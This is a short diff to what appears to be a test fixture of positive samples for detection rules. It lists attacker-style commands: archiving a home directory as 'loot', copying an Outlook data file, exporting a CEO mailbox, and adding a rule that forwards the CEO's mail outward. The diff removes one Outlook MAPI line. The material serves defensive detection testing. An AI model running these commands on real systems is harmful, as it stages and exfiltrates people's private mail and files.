@@ -44,7 +44,6 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
     ("TWN-246", BAT, "makecab C:\\data\\a.txt C:\\Users\\Public\\a.cab"),
     ("TWN-246", SH, "tar -cvzf /tmp/loot.tgz /home/bob"),
     ("TWN-246", SH, "zip /tmp/logs.zip /var/log/wtmp /var/log/btmp"),
-    ("TWN-247", PS, '$ns = (New-Object -ComObject Outlook.Application).GetNamespace("MAPI")'),
     ("TWN-247", BAT, "copy %LOCALAPPDATA%\\Microsoft\\Outlook\\bob.ost C:\\Users\\Public\\"),
     ("TWN-248", PS, "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\srv\\s\\ceo.pst"),
     ("TWN-249", PS, "New-InboxRule -Name sync -Mailbox ceo -ForwardTo a@example.org"),
